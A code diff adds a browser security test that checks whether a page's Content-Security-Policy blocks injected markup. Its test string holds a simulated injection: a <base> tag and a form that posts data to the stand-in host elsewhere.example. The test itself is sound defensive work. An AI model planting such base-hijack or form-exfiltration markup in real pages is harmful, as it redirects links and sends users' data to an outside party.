@@ -39,6 +39,30 @@ def test_the_page_stands_alone(chromium, hostile, scheme):
     page.close()
 
 
+SMUGGLED = """() => new Promise(done => {
+    document.head.prepend(Object.assign(document.createElement('base'), {href: 'https://elsewhere.example/'}))
+    const form = Object.assign(document.createElement('form'), {action: 'https://elsewhere.example/take', method: 'post'})
+    form.append(Object.assign(document.createElement('input'), {name: 'scenes', value: 'all of them'}))
+    document.body.append(form)
+    const link = Object.assign(document.createElement('a'), {href: 'next'}).href
+    document.addEventListener('securitypolicyviolation', e => {
+        if (e.effectiveDirective === 'form-action') done({base: document.baseURI, link})
+    })
+    form.submit()
+})"""
+
+
+def test_markup_that_got_in_could_post_nothing_and_move_no_address(chromium, hostile):
+    "Were a title ever not escaped, a form in it could not be sent, and a base in it would have no effect"
+    page, _, outside = watched(chromium)
+    page.goto(hostile.as_uri())
+    page.wait_for_selector('body[data-drawn]')
+    found = page.evaluate(SMUGGLED)
+    assert not outside and page.url == hostile.as_uri()
+    assert found['base'] == hostile.as_uri() and found['link'].startswith('file:')
+    page.close()
+
+
 def test_a_figure_and_the_panels_share_what_is_pointed_at(chromium, hostile):
     page, errors, _ = watched(chromium)
     page.goto(hostile.as_uri())
